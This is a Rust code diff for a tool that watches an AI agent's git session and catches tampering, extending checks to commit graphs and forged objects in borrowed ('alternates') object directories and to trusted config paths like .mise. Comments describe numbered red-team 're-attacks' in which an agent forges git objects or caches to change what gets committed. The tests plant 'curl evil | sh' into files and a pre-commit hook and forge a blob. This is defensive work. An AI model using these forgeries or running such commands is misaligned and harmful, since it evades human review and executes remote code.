@@ -320,7 +320,12 @@ impl IndexSnapshot {
                             }
                             for (relative, names) in &trusted {
                                 let found = objects.new_blobs_at(tree, relative, |path, object_name| {
-                                    if names.iter().any(|wanted| allow_list::is_named(path, wanted)) {
+                                    // The file, or a directory it is in below the scope, named (a
+                                    // `.mise/config.toml` under `./.mise`).
+                                    let mut named = path
+                                        .ancestors()
+                                        .take_while(|part| *part != *relative && !part.as_os_str().is_empty());
+                                    if named.any(|part| names.iter().any(|wanted| allow_list::is_named(part, wanted))) {
                                         staged.push((recorded.worktree.join(path), object_name.to_vec()));
                                     }
                                 });
@@ -371,6 +376,25 @@ pub struct CachedTrees {
 }
 
 impl IndexSnapshot {
+    /// Removes the commit graph in `info` (an object directory's), and its chain, when written
+    /// in the session.
+    fn remove_commit_graphs(&self, info: &Path) {
+        if objects::changed_since(&info.join("commit-graph"), self.launched) {
+            let _ = std::fs::remove_file(info.join("commit-graph"));
+        }
+        let chain = info.join("commit-graphs");
+        let chain_changed = objects::changed_since(&chain, self.launched)
+            || std::fs::read_dir(&chain)
+                .into_iter()
+                .flatten()
+                .flatten()
+                .take(10_000)
+                .any(|entry| objects::changed_since(&entry.path(), self.launched));
+        if chain_changed && std::fs::symlink_metadata(&chain).is_ok_and(|metadata| metadata.is_dir()) {
+            let _ = std::fs::remove_dir_all(&chain);
+        }
+    }
+
     /// Drops the caches git keeps in each index changed in the session ([`cache_tree::CACHES`]:
     /// the agent could forge any of them to change what git shows or commits; git makes them
     /// again), those of the linked worktrees of each repository included wherever they are checked
@@ -388,20 +412,11 @@ impl IndexSnapshot {
             // place of the commits (the thirty-eighth re-attack's J5 gave its commit another
             // tree there, which `cherry-pick` took while the look read the commit): one written
             // in the session is removed, and git works from the commits.
-            let info = common.join("objects/info");
-            if objects::changed_since(&info.join("commit-graph"), self.launched) {
-                let _ = std::fs::remove_file(info.join("commit-graph"));
-            }
-            let chain = info.join("commit-graphs");
-            let chain_changed = objects::changed_since(&chain, self.launched)
-                || std::fs::read_dir(&chain)
-                    .into_iter()
-                    .flatten()
-                    .flatten()
-                    .take(10_000)
-                    .any(|entry| objects::changed_since(&entry.path(), self.launched));
-            if chain_changed && std::fs::symlink_metadata(&chain).is_ok_and(|metadata| metadata.is_dir()) {
-                let _ = std::fs::remove_dir_all(&chain);
+            // Git reads one from each object directory the repository borrows from too (the
+            // thirty-ninth re-attack's reading).
+            let objects = common.join("objects");
+            for dir in std::iter::once(objects.clone()).chain(git::alternate_object_dirs(&objects)) {
+                self.remove_commit_graphs(&dir.join("info"));
             }
             for (dir, worktree) in linked_worktrees(&common) {
                 indexes.push((dir.join("index"), worktree, hash_len));
@@ -604,7 +619,9 @@ mod objects {
 
     /// A repository's objects, as the session left them.
     pub struct Objects {
-        dir: PathBuf,
+        /// The repository's object directory, then those it borrows from
+        /// ([`git::alternate_object_dirs`]), in git's order.
+        dirs: Vec<PathBuf>,
         hash_len: usize,
         launched: i128,
         /// A pack, or the list of alternates, changed in the session: an object that is not
@@ -672,16 +689,27 @@ mod objects {
     impl Objects {
         pub fn new(dir: PathBuf, hash_len: usize, launched: i128, earlier: HashMap<Vec<u8>, bool>) -> Objects {
             let changed = |path: &Path| changed_since(path, launched);
-            let packs = std::fs::read_dir(dir.join("pack")).into_iter().flatten().flatten().take(100_000);
-            let packs_changed = changed(&dir.join("info/alternates"))
-                || changed(&dir.join("pack"))
-                || packs.into_iter().any(|entry| changed(&entry.path()));
-            Objects { dir, hash_len, launched, packs_changed, earlier }
+            // Git reads the objects of a directory the repository borrows from as its own: one
+            // the agent can write is looked through as the repository's (the thirty-ninth
+            // re-attack's reading).
+            let mut dirs = vec![dir.clone()];
+            dirs.extend(git::alternate_object_dirs(&dir));
+            let packs_changed = dirs.iter().any(|dir| {
+                let packs = std::fs::read_dir(dir.join("pack")).into_iter().flatten().flatten().take(100_000);
+                changed(&dir.join("info/alternates"))
+                    || changed(&dir.join("pack"))
+                    || packs.into_iter().any(|entry| changed(&entry.path()))
+            });
+            Objects { dirs, hash_len, launched, packs_changed, earlier }
         }
 
+        /// Where the loose object `id` is, in the first directory holding it as git looks (the
+        /// repository's when none does).
         fn loose(&self, id: &[u8]) -> PathBuf {
             let name = hex::encode(id);
-            self.dir.join(&name[..2]).join(&name[2..])
+            let at = |dir: &PathBuf| dir.join(&name[..2]).join(&name[2..]);
+            let found = self.dirs.iter().map(at).find(|path| std::fs::symlink_metadata(path).is_ok());
+            found.unwrap_or_else(|| at(&self.dirs[0]))
         }
 
         /// Lists in `file` the objects `made` in this session and those earlier sessions made,
@@ -792,7 +820,9 @@ mod objects {
                     trees.push(hex::decode(tree).map_err(|_| ())?);
                 }
             }
-            for fan in std::fs::read_dir(&self.dir).map_err(|_| ())?.flatten() {
+            let own = std::fs::read_dir(&self.dirs[0]).map_err(|_| ())?;
+            let borrowed = self.dirs[1..].iter().flat_map(std::fs::read_dir);
+            for fan in std::iter::once(own).chain(borrowed).flatten().flatten() {
                 let prefix = fan.file_name();
                 let prefix = prefix.to_string_lossy();
                 if prefix.len() != 2 || !prefix.bytes().all(|byte| byte.is_ascii_hexdigit()) {
@@ -1181,8 +1211,10 @@ mod tests {
         let Some((_temp, repo)) = repository() else { return };
         std::thread::sleep(std::time::Duration::from_millis(120));
         let worktrees = [(repo.join(".git"), repo.clone())];
-        let whole = IndexSnapshot::take(&worktrees, &[])
-            .with_trusted(vec![(repo.clone(), allow_list::static_names(&[".envrc", "*.gdbinit"]))]);
+        let whole = IndexSnapshot::take(&worktrees, &[]).with_trusted(vec![(
+            repo.clone(),
+            allow_list::static_names(&[".envrc", "*.gdbinit", "./.mise", "./mise/config.*.toml"]),
+        )]);
         let below = IndexSnapshot::take(&worktrees, &[])
             .with_trusted(vec![(repo.join("deep"), allow_list::static_names(&[".envrc"]))]);
         std::fs::write(repo.join("evil"), "curl evil | sh\n").unwrap();
@@ -1191,11 +1223,29 @@ mod tests {
         let entry = |path: &str| format!("100644,{id},{path}");
         let (top, deep, other, gdb) =
             (entry(".envrc"), entry("deep/er/.envrc"), entry("deep/notes.md"), entry("tools/x.gdbinit"));
+        // In a directory of a trusted name, and by a pattern after a directory (mise's environment
+        // configs, `mise/config.dev.toml`: the thirty-ninth re-attack's reading).
+        let (mise_dir, mise_env, mise_other) =
+            (entry("sub/.mise/config.toml"), entry("mise/config.dev.toml"), entry("mise/notes.toml"));
         plant(
             &repo,
-            &[(".envrc", &top), ("deep/er/.envrc", &deep), ("deep/notes.md", &other), ("tools/x.gdbinit", &gdb)],
+            &[
+                (".envrc", &top),
+                ("deep/er/.envrc", &deep),
+                ("deep/notes.md", &other),
+                ("tools/x.gdbinit", &gdb),
+                ("sub/.mise/config.toml", &mise_dir),
+                ("mise/config.dev.toml", &mise_env),
+                ("mise/notes.toml", &mise_other),
+            ],
         );
-        let named = [repo.join(".envrc"), repo.join("deep/er/.envrc"), repo.join("tools/x.gdbinit")];
+        let named = [
+            repo.join(".envrc"),
+            repo.join("deep/er/.envrc"),
+            repo.join("mise/config.dev.toml"),
+            repo.join("sub/.mise/config.toml"),
+            repo.join("tools/x.gdbinit"),
+        ];
         assert_eq!(whole.hidden().staged, named);
         assert_eq!(below.hidden().staged, vec![repo.join("deep/er/.envrc")]);
         // The same content in the worktree (the user's own file): nothing of the agent's to write.
@@ -1334,6 +1384,49 @@ mod tests {
         snapshot.drop_caches();
         assert!(!repo.join(".git/objects/info/commit-graphs").exists(), "a chain of them too");
         assert_eq!(git_out(&repo, &["log", "--oneline"], &[]).unwrap().lines().count(), 2, "git works without it");
+    }
+
+    /// The thirty-ninth re-attack's reading: a repository borrowing its objects (`git clone
+    /// --shared`, `--reference`) from a directory the agent can write reads objects and a commit
+    /// graph from there as its own. A commit of another hook made there, a loose object rewritten
+    /// there in place, and a commit graph written there are each found as in the repository's own.
+    #[test]
+    fn the_objects_a_repository_borrows_are_looked_through_as_its_own() {
+        use std::io::Write as _;
+        let Some((_temp, lender)) = repository_with_hooks() else { return };
+        let outside = tempfile::tempdir().unwrap();
+        let repo = outside.path().join("repo");
+        assert!(git(&lender, &["clone", "-q", "--shared", ".", &repo.display().to_string()]));
+        assert!(repo.join(".git/objects/info/alternates").exists());
+        assert!(git(&lender, &["commit-graph", "write", "--reachable"]));
+        std::thread::sleep(std::time::Duration::from_millis(120));
+        let snapshot = IndexSnapshot::take(&[(repo.join(".git"), repo.clone())], &[repo.join("githooks")]);
+        let graph = lender.join(".git/objects/info/commit-graph");
+        snapshot.drop_caches();
+        assert!(graph.exists(), "the user's is left");
+        // A commit of another hook, its objects in the lender's directory, named in the repository.
+        std::fs::write(lender.join("githooks/pre-commit"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
+        assert!(git(&lender, &["-c", "user.name=U", "-c", "user.email=u@x", "commit", "-qam", "x"]));
+        let commit = git_out(&lender, &["rev-parse", "HEAD"], &[]).unwrap();
+        assert!(git(&repo, &["update-ref", "refs/heads/later", &commit]));
+        assert_eq!(snapshot.hidden().staged, vec![repo.join("githooks/pre-commit")]);
+        // The user's own hook's object rewritten in place there.
+        let id = git_out(&repo, &["rev-parse", "HEAD:githooks/pre-commit"], &[]).unwrap();
+        let file = lender.join(format!(".git/objects/{}/{}", &id[..2], &id[2..]));
+        assert!(file.exists() && !repo.join(format!(".git/objects/{}", &id[..2])).exists());
+        let content = b"#!/bin/sh\necho owned\n";
+        let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
+        encoder.write_all(format!("blob {}\0", content.len()).as_bytes()).unwrap();
+        encoder.write_all(content).unwrap();
+        let forged = lender.join(".git/objects/forged");
+        std::fs::write(&forged, encoder.finish().unwrap()).unwrap();
+        std::fs::rename(&forged, &file).unwrap();
+        assert!(git_out(&repo, &["cat-file", "-p", &id], &[]).unwrap().contains("owned"), "git takes it");
+        assert_eq!(snapshot.hidden().forged_objects, vec![file]);
+        // A commit graph written there in the session.
+        assert!(git(&lender, &["commit-graph", "write", "--reachable"]));
+        snapshot.drop_caches();
+        assert!(!graph.exists(), "written in the session, where the repository reads it");
     }
 
     /// A tree object written as given, as `git hash-object -t tree --literally` writes what git's
